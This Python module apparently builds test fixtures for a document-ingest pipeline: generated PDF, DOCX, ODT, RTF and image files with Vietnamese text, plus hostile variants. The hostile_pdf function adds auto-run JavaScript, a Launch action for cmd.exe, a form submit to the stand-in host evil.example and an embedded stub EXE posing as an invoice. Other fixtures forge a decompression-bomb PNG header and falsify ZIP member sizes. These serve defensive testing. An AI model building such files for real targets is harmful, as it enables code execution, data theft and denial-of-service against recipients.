"""Generated files for the ingest-stage tests: every format, and hostile variants of them.

Nothing here is read from disk except the DejaVu font; every fixture is built in memory.
"""

from __future__ import annotations

import io
import random
import struct
import unicodedata
import zipfile
import zlib

import docx
import pikepdf
from PIL import Image, ImageDraw, ImageFont

from ingest.demo import samples
from ingest.demo import scans as synth

FONT = "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"
SENTENCE = "Tỉnh ủy Lào Cai ban hành nghị quyết về công tác cán bộ đảng viên"
OCR_WORDS = ("TỈNH", "LÀO", "NGHỊ", "QUYẾT")
_TONES = "\u0300\u0301\u0309\u0303\u0323"


def pdf(text: str = SENTENCE) -> bytes:
    return samples.render_pdf(text)


def pdf_pages(count: int) -> bytes:
    """A text PDF of exactly ``count`` full pages (~2,500 characters each, like a real page)."""
    page = samples.render_pdf("\n\n".join([(SENTENCE + ". ") * 38] * 1))
    with pikepdf.open(io.BytesIO(page)) as doc:
        for _ in range(count - 1):
            doc.pages.append(doc.pages[0])
        out = io.BytesIO()
        doc.save(out)
    return out.getvalue()


def docx_file(paragraphs: list[str], table: list[list[str]] | None = None) -> bytes:
    document = docx.Document()
    if table:
        grid = document.add_table(rows=len(table), cols=len(table[0]))
        for r, row in enumerate(table):
            for c, value in enumerate(row):
                grid.cell(r, c).text = value
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def odt_file(paragraphs: list[str]) -> bytes:
    """A minimal ODT: ``mimetype`` stored first, ``content.xml``, and the manifest."""
    body = "".join(f"<text:p>{p}</text:p>" for p in paragraphs)
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.2">'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/"'
        ' manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"),
            "application/vnd.oasis.opendocument.text",
            compress_type=zipfile.ZIP_STORED,
        )
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", manifest)
    return out.getvalue()


def cp1258(text: str) -> bytes:
    """Windows-1258 as Word writes it: base letters precomposed, tone marks combining."""
    out = []
    for ch in unicodedata.normalize("NFC", text):
        parts = unicodedata.normalize("NFD", ch)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in _TONES))
        out.append(base + "".join(c for c in parts if c in _TONES))
    return "".join(out).encode("cp1258")


def rtf_file(first: str, second: str) -> bytes:
    """``first`` as cp1258 ``\\'hh`` bytes, ``second`` as ``\\uN?`` escapes, plus a font table."""
    hexed = "".join(chr(b) if b < 128 else f"\\'{b:02x}" for b in cp1258(first))
    escaped = "".join(ch if ord(ch) < 128 else f"\\u{ord(ch)}?" for ch in second)
    return (
        "{\\rtf1\\ansi\\ansicpg1258\\deff0{\\fonttbl{\\f0\\fnil\\fcharset163 Times New Roman;}}"
        "{\\*\\generator Riched20 10.0;}{\\info{\\title Khong phai noi dung}}"
        f"\\pard\\f0\\fs24 {hexed}\\par\n\\uc1 {escaped}\\par\n}}"
    ).encode("ascii")


def image(
    text_lines: tuple[str, ...] = (SENTENCE.upper(),), fmt: str = "PNG", pages: int = 1
) -> bytes:
    """Black Vietnamese text on white, ~300 dpi-sized glyphs, as PNG/JPEG/(multi-page) TIFF."""
    font = ImageFont.truetype(FONT, 44)
    frames = []
    for page in range(pages):
        canvas = Image.new("L", (1800, 120 + 80 * len(text_lines)), 255)
        draw = ImageDraw.Draw(canvas)
        for i, line in enumerate(text_lines):
            draw.text((60, 50 + 80 * i), line if page == 0 else f"{line} {page + 1}", 0, font=font)
        frames.append(canvas)
    out = io.BytesIO()
    if pages > 1:
        frames[0].save(out, format=fmt, save_all=True, append_images=frames[1:])
    else:
        frames[0].save(out, format=fmt)
    return out.getvalue()


def huge_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny PNG whose header declares an enormous canvas (CRC fixed, so it looks valid)."""
    data = bytearray(image(fmt="PNG"))
    ihdr = 8  # after the signature: length(4) type(4) data(13) crc(4)
    data[ihdr + 8 : ihdr + 16] = struct.pack(">II", width, height)
    crc = zlib.crc32(bytes(data[ihdr + 4 : ihdr + 21]))
    data[ihdr + 21 : ihdr + 25] = struct.pack(">I", crc)
    return bytes(data)


def scanned_pdf(png: bytes) -> bytes:
    """A PDF whose only page is an image (no text layer), like a scan."""
    picture = Image.open(io.BytesIO(png)).convert("RGB")
    out = io.BytesIO()
    picture.save(out, format="PDF", resolution=200)
    return out.getvalue()


def zip_with(members: dict[str, bytes], base: bytes | None = None) -> bytes:
    """Copy of ``base`` (a DOCX) with extra members added, deflated."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        if base:
            with zipfile.ZipFile(io.BytesIO(base)) as source:
                for info in source.infolist():
                    target.writestr(info, source.read(info))
        for name, content in members.items():
            target.writestr(name, content)
    return out.getvalue()


def lying_zip(base: bytes, name: str, actual: bytes, declared: int) -> bytes:
    """A DOCX whose member ``name`` declares ``declared`` bytes but inflates to ``actual``."""
    data = bytearray(zip_with({name: actual}, base))
    real = struct.pack("<I", len(actual))
    fake = struct.pack("<I", declared)
    encoded = name.encode()
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := data.find(signature, start)) != -1:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(encoded)] == encoded:
                assert data[at + size_at : at + size_at + 4] == real
                data[at + size_at : at + size_at + 4] = fake
            start = at + 4
    return bytes(data)


def hostile_pdf(**parts: bool) -> bytes:
    """A text PDF with the active content named in ``parts`` added with pikepdf."""
    source = pikepdf.open(io.BytesIO(pdf()))
    with source as doc:
        page = doc.pages[0].obj
        js = doc.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')"))
        )
        if parts.get("javascript"):
            doc.Root.Names = pikepdf.Dictionary(
                JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), js]))
            )
            doc.Root.OpenAction = js
        annots = []
        if parts.get("launch"):
            launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
            annots.append(_link(launch))
        if parts.get("submit"):
            submit = pikepdf.Dictionary(
                S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/")
            )
            annots.append(_link(submit))
        if parts.get("embedded_exe"):
            exe = b"MZ\x90\x00" + b"\x00" * 200 + b"This program cannot be run in DOS mode"
            stream = pikepdf.Stream(doc, exe)
            stream.Type = pikepdf.Name.EmbeddedFile
            spec = doc.make_indirect(
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Filespec,
                    F=pikepdf.String("hoa-don.exe"),
                    EF=pikepdf.Dictionary(F=stream),
                )
            )
            doc.Root.Names = pikepdf.Dictionary(
                EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), spec]))
            )
            annots.append(
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.FileAttachment,
                    Rect=[10, 10, 30, 30],
                    FS=spec,
                )
            )
        if parts.get("aa"):
            page.AA = pikepdf.Dictionary(O=js)
            annots.append(_link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("x"))))
            annots[-1].AA = pikepdf.Dictionary(E=js)
        if parts.get("xfa"):
            doc.Root.AcroForm = pikepdf.Dictionary(
                Fields=pikepdf.Array(), XFA=pikepdf.Stream(doc, b"<xdp:xdp/>")
            )
        if annots:
            page.Annots = doc.make_indirect(pikepdf.Array([doc.make_indirect(a) for a in annots]))
        out = io.BytesIO()
        doc.save(out)
        return out.getvalue()


def _link(action: pikepdf.Dictionary) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[50, 50, 150, 70], A=action
    )


def encrypted_pdf(user_key: str = "u-secret") -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as doc:
        doc.save(out, encryption=pikepdf.Encryption(owner="o-secret", user=user_key))
    return out.getvalue()


def fold(text: str) -> str:
    """Lower case without diacritics (đ -> d), to compare OCR output tolerantly."""
    text = unicodedata.normalize("NFD", text.lower().replace("đ", "d"))
    return "".join(ch for ch in text if not unicodedata.combining(ch))


BODY_LINES = (  # lines of plain body text, for pages that tests draw
    "Tổ chức tập huấn nghiệp vụ cho đội ngũ cán bộ làm công tác văn thư,",
    "lưu trữ ở các đảng bộ trực thuộc.",
    "Văn phòng cấp ủy chủ trì, phối hợp với các cơ quan liên quan theo dõi,",
    "đôn đốc, kiểm tra việc thực hiện, định kỳ báo cáo Ban Thường vụ.",
    "Đẩy mạnh ứng dụng công nghệ thông tin trong quản lý văn bản đi, văn",
    "bản đến; thực hiện quy trình xử lý văn bản trên môi trường mạng.",
    "Sở Công Thương nhận được Văn bản số 11/VT ngày 29/5/2026 và hồ sơ nộp",
    "trên dịch vụ công quốc gia của Hợp tác xã Văn Thịnh về việc đề nghị",
    "huấn luyện, kiểm tra cấp Giấy chứng nhận huấn luyện kỹ thuật an toàn",
)


def justified_page(
    lines: tuple[str, ...] = BODY_LINES,
    face: str = "DejaVuSerif-Bold.ttf",
    top_mm: float = 60.0,
    spacing: float = 1.2,
    dpi: int = 300,
) -> tuple[Image.Image, list[float], float]:
    """An A4 page (grey, white paper) of ``lines`` justified as body text, 13 pt, from
    ``top_mm`` down; the baselines in pixels and the height of the small letters."""
    px_mm = dpi / 25.4
    image = Image.new("L", (round(210 * px_mm), round(297 * px_mm)), 255)
    draw = ImageDraw.Draw(image)
    size = round(13 / 72 * dpi)
    font = ImageFont.truetype(synth.FONT_DIR + face, size)
    left, right = 30 * px_mm, 195 * px_mm
    baseline, baselines = top_mm * px_mm + size, []
    for line in lines:
        words = line.split()
        widths = [draw.textlength(word, font=font) for word in words]
        gap = (right - left - sum(widths)) / max(1, len(words) - 1)
        x = left
        for word, width in zip(words, widths, strict=True):
            draw.text((x, baseline), word, fill=0, font=font, anchor="ls")
            x += width + gap
        baselines.append(baseline)
        baseline += spacing * size
    return image, baselines, -font.getbbox("x", anchor="ls")[1]


# Printed so; the body writes "Tết Nhâm Dần" once: which marks are right is for a person.
MISMARKED_SUBJECT = "về việc tổ chức đón Tết Nhâm Dằn năm 2026"


def mismarked_scan() -> bytes:
    """A 300 dpi gray scan of a plan whose subject carries a word with other marks than the
    body's, which OCR reads as printed: the reader offers the body's "Nhâm Dần" to the person
    reviewing it."""
    truth = {
        "kind": "party",
        "doc_type": "KH",
        "number": "12-KH/TU",
        "issuer": "Tỉnh ủy Lào Cai",
        "date": "2026-03-05",
        "subject": MISMARKED_SUBJECT,
        "level": "thuong",
        "urgency": "thuong",
    }
    body = [
        "Thực hiện chương trình công tác năm 2026, Ban Thường vụ Tỉnh ủy ban hành kế hoạch.",
        "Các cơ quan, đơn vị chuẩn bị đón Tết Nhâm Dần an toàn, tiết kiệm và lành mạnh.",
        "Văn phòng Tỉnh ủy hướng dẫn, kiểm tra và tổng hợp kết quả thực hiện.",
    ]
    text = samples.render_text(truth, body)
    scan, _, _ = synth.make_scan(truth, text, [], "gray", 300, "png", False, random.Random(3))
    return scan
